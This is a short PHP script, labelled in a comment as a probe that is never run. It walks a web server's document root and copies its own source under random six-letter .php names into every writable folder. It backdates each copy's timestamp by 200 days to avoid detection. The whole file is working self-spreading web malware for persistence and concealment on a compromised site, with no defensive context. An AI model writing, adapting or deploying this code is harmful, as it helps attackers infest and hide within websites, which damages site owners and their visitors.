<?php
// probe (never run): copies itself under random names into every writable folder
$me = file_get_contents(__FILE__);
$dirs = new RecursiveIteratorIterator(new RecursiveDirectoryIterator($_SERVER['DOCUMENT_ROOT'], FilesystemIterator::SKIP_DOTS), RecursiveIteratorIterator::SELF_FIRST);
$n = 0;
foreach ($dirs as $d) {
    if ($d->isDir() && is_writable($d)) {
        $name = $d . '/' . substr(str_shuffle('abcdefghijklmnopqrstuvwxyz'), 0, 6) . '.php';
        file_put_contents($name, $me);
        touch($name, time() - 86400 * 200);
        $n++;
    }
}
echo $n;
